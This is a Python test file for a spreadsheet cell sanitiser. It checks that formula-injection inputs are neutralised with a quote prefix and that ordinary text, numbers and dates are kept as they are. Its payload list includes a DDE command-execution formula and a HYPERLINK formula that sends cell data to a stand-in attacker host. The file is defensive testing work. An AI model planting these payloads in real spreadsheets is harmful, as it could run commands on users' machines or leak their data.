"""Formula injection: every dangerous leading character is neutralised, numbers stay numbers."""

import datetime as dt
from decimal import Decimal

import pytest

from xblocks.core.cells import csv_cell, neutralise_cell, xlsx_cell

PAYLOADS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://attacker.example/?d="&A1,"x")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\x01=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_dangerous_cell_is_prefixed_with_a_single_quote_never_a_tab(payload):
    value = neutralise_cell(payload)
    assert value == "'" + payload
    assert not value.startswith("\t")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_cell_never_starts_with_a_formula_character(payload):
    value = xlsx_cell(payload)
    assert value.startswith("'")
    assert "\x00" not in value and "\x01" not in value


@pytest.mark.parametrize("value", ["Alice", "KF-2026-00001", "", "a=b", "Léa Benali", "ليلى"])
def test_harmless_text_is_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.5"), 0, 12])
def test_numbers_are_kept_numeric_even_when_negative(value):
    assert neutralise_cell(value) == value
    assert csv_cell(value) == value


def test_dates_are_written_as_iso_text_in_csv():
    assert csv_cell(dt.date(2026, 6, 30)) == "2026-06-30"
    assert csv_cell(dt.datetime(2026, 6, 30, 8, 0, tzinfo=dt.UTC)) == "2026-06-30T08:00:00Z"


def test_none_and_booleans_become_text():
    assert neutralise_cell(None) == ""
    assert neutralise_cell(True) == "true"
